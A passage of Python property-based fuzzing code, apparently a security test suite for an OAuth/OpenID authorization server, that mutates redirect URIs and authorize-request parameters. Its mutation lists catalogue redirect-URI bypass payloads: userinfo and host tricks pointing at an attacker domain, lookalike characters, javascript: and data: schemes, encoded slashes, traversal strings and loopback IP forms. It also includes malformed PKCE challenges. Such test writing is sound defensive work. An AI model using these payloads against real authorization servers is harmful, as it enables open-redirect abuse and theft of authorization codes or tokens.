        return _join(scheme, authority, rest[:i] + rest[i].swapcase() + rest[i + 1:],
                     slashes=slashes)
    if op == "port":
        return _join(scheme, f"{host}:{pick(PORTS)}", rest, slashes=slashes)
    if op == "traversal":
        i = at(rest)
        return _join(scheme, authority, rest[:i] + pick(TRAVERSALS) + rest[i:], slashes=slashes)
    if op == "encode-char":
        i = at(uri) - 1
        if i < 0:
            return uri
        escape = f"%{ord(uri[i]):02{'X' if choice % 2 else 'x'}}" if ord(uri[i]) < 128 else "%ff"
        if choice % 3 == 2:
            escape = escape.replace("%", "%25")
        return uri[:i] + escape + uri[i + 1:]
    if op == "encode-slash":
        slash = pick(("%2f", "%2F", "%252f", "\\", "%5c", "%5C"))
        return _join(scheme, authority, rest.replace("/", slash, 1 + choice % 2), slashes=slashes)
    if op == "userinfo":
        return pick((_join(scheme, f"{authority}@{EVIL}", rest),
                     _join(scheme, f"{EVIL}@{authority}", rest),
                     _join(scheme, f"{authority}%40{EVIL}", rest),
                     _join(scheme, f"{EVIL}\\@{authority}", rest),
                     _join(scheme, f"{authority}\\@{EVIL}", rest),
                     _join(scheme, f"{authority}:@{EVIL}", rest),
                     _join(scheme, f"{EVIL}%5c@{authority}", rest)))
    if op == "host":
        return _join(scheme, pick((f"{host}.{EVIL}", f"{host}.", f"{host}%2e{EVIL}",
                                   f"evil{host}", f"{EVIL}.{host}", f"{host}%00.{EVIL}",
                                   f"{host}\\.{EVIL}", f"{host}#.{EVIL}", f"{host}?.{EVIL}",
                                   EVIL, "")) + (f":{port}" if port else ""), rest,
                     slashes=slashes)
    if op == "append":
        return uri + pick(TRAILERS)
    if op == "whitespace":
        i = at(uri)
        return uri[:i] + pick(WHITESPACE) + uri[i:]
    if op == "scheme":
        return pick(DANGEROUS) + (uri if choice % 2 else _join("", authority, rest)[1:])
    if op == "replace-scheme":
        other = pick(("javascript", "data", "vbscript", "JAVASCRIPT", "https", "http", "ftp",
                      "file", "com.example.app", "", "HTTPS", "ws"))
        return _join(other, authority, rest, slashes=slashes)
    if op == "backslash":
        return pick((uri.replace("://", ":\\\\", 1), uri.replace("://", ":/\\", 1),
                     uri.replace("://", "\\\\", 1), _join(scheme, authority, "\\" + rest[1:])
                     if rest else uri + "\\"))
    if op == "lookalike":
        spots = [i for i, c in enumerate(authority or rest) if c in LOOKALIKES]
        if not spots:
            return uri + "\u2024"
        i = spots[choice % len(spots)]
        text = authority or rest
        text = text[:i] + LOOKALIKES[text[i]] + text[i + 1:]
        return _join(scheme, text, rest, slashes=slashes) if authority else _join(
            scheme, "", text, slashes=slashes)
    if op == "scheme-relative":
        return pick((f"//{authority}{rest}", f"{authority}{rest}", f"/{authority}{rest}",
                     f"{scheme}:{authority}{rest}", f"{scheme}:/{authority}{rest}",
                     f"{scheme}:///{authority}{rest}"))
    if op == "ip-form":
        return _join(scheme, pick(("127.1", "0x7f.0.0.1", "2130706433", "127.0.0.01", "0177.0.0.1",
                                   "[::ffff:127.0.0.1]", "[0:0:0:0:0:0:0:1]", "localhost",
                                   "127.0.0.2", "[::1]", "127.0.0.1")) + (
            f":{port}" if port else ""), rest, slashes=slashes)
    return uri


MUTATIONS = ("case-scheme", "case-host", "case-path", "port", "traversal", "encode-char",
             "encode-slash", "userinfo", "host", "append", "whitespace", "scheme",
             "replace-scheme", "backslash", "lookalike", "scheme-relative", "ip-form")


@dataclass(frozen=True)
class Mutated:
    """A registered URI with attacks applied, in order."""

    registered: str
    ops: tuple[tuple[str, int, int], ...]

    @property
    def uri(self) -> str:
        uri = self.registered
        for op, choice, position in self.ops:
            uri = mutate(uri, op, choice, position)
        return uri


def mutated_uris(registered: Sequence[str]) -> st.SearchStrategy[Mutated]:
    op = st.tuples(st.sampled_from(MUTATIONS), st.integers(0, 100), st.integers(0, 200))
    return st.builds(Mutated, st.sampled_from(tuple(registered)),
                     st.lists(op, min_size=0, max_size=3).map(tuple))


# --- authorize requests -------------------------------------------------------------------------

PKCE_VERIFIER = "fuzz-verifier-" + "v" * 40
PKCE_CHALLENGE = b64url(hashlib.sha256(PKCE_VERIFIER.encode()).digest())
NEAR_CHALLENGES = (PKCE_CHALLENGE + "\n", PKCE_CHALLENGE[:42], PKCE_CHALLENGE + "=",
                   PKCE_CHALLENGE[:20] + "+" + PKCE_CHALLENGE[21:], " " + PKCE_CHALLENGE,
                   PKCE_CHALLENGE + " ", "A" * 129, PKCE_CHALLENGE + "\r\n", PKCE_CHALLENGE + "é",
                   PKCE_CHALLENGE.replace("-", "/").replace("_", "/") + "/", "a" * 43,
                   "~" * 128, PKCE_CHALLENGE + "\t")
SCOPES = ("openid", "openid profile", "openid profile email api1 offline_access", "api1",
          "openid api2.read_only", "profile", "openid unknown", "openid  profile", " openid",
          "openid\nprofile", "openid offline_access", "OPENID")

authorize_values = {
    "response_type": st.sampled_from(("code", "code", "code", "token", "id_token", "code token",
                                      "none", "CODE", "code ")),
    "scope": st.sampled_from(SCOPES),
    "code_challenge": st.one_of(st.just(PKCE_CHALLENGE), st.sampled_from(NEAR_CHALLENGES)),
    "code_challenge_method": st.sampled_from(("S256", "S256", "plain", "s256", "S512", "")),
    "response_mode": st.sampled_from(("query", "fragment", "form_post", "form_post", "jwt",
                                      "query.jwt", "")),
    "prompt": st.sampled_from(("none", "login", "consent", "select_account", "none login",
                               "create", "login consent", "")),
    "max_age": st.sampled_from(("0", "60", "999999999", "1000000000", "-1", "٣", "1e3", "")),
    "state": st.text(max_size=30),
    "nonce": st.text(max_size=30),
}
AUTHORIZE_OPTIONAL = ("response_type", "scope", "code_challenge", "code_challenge_method",
                      "response_mode", "prompt", "max_age", "state", "nonce", "login_hint",
                      "ui_locales", "display", "request", "request_uri", "claims", "acr_values",
                      "id_token_hint", "registration", "resource")


@dataclass(frozen=True)
class AuthorizeRequest:
    """An authorization request as the client means it: parameters in order, how it is sent."""

    params: tuple[tuple[str, str], ...]
    method: str = "GET"
    signed_in: bool = False

    def encoded(self) -> bytes:
        return b"&".join(Param(k, v).encode() for k, v in self.params)

    def value(self, name: str) -> str | None:
        """The value the server reads: the last one, empty ones count as absent."""
        found = [v for k, v in self.params if k == name]
        return found[-1] if found and found[-1] != "" else None


IMPORTANT = ("redirect_uri", "code_challenge", "code_challenge_method", "response_type", "scope",
             "response_mode", "prompt", "state", "client_id")


@st.composite
def authorize_requests(draw: st.DrawFn, redirects: dict[str, tuple[str, ...]],
                       client_ids: Sequence[str]) -> AuthorizeRequest:
    """A valid request for a client, then up to three edits: a value changed (mostly to a
    near miss), a parameter dropped, a junk parameter added, a parameter repeated."""
    client_id = draw(st.sampled_from(tuple(client_ids)))
    own = redirects.get(client_id) or tuple(u for uris in redirects.values() for u in uris)
    every = tuple(u for uris in redirects.values() for u in uris)
    redirect_uri = draw(st.one_of(st.sampled_from(own), st.sampled_from(own),
                                  st.sampled_from(own), mutated_uris(own).map(lambda m: m.uri),
                                  st.sampled_from(every)))
    params: dict[str, str] = {
        "client_id": client_id, "redirect_uri": redirect_uri, "response_type": "code",
        "scope": draw(st.sampled_from(SCOPES[:3])), "code_challenge": PKCE_CHALLENGE,
        "code_challenge_method": "S256", "state": draw(authorize_values["state"]),
    }
    if draw(st.booleans()):
        params["response_mode"] = draw(st.sampled_from(("query", "fragment", "form_post")))
    pairs = list(params.items())
    names = st.sampled_from(IMPORTANT * 3 + AUTHORIZE_OPTIONAL)
    for edit in draw(st.lists(st.sampled_from(("set",) * 5 + ("drop", "junk", "repeat")),
                              max_size=3)):
        name = draw(names)
        if edit == "set":
            special = authorize_values.get(name, values)
            if name == "redirect_uri":
                special = mutated_uris(own).map(lambda m: m.uri)
            value = draw(st.one_of(special, special, special, values))
            pairs = [(k, v) for k, v in pairs if k != name] + [(name, value)]
        elif edit == "drop":
            pairs = [(k, v) for k, v in pairs if k != name]
        elif edit == "junk":
            pairs.append((draw(st.text(min_size=1, max_size=10)), draw(values)))
        elif pairs:
            pairs.append(pairs[draw(st.integers(0, len(pairs) - 1))])
    return AuthorizeRequest(tuple(pairs), draw(st.sampled_from(("GET", "GET", "POST"))),
                            draw(st.booleans()))
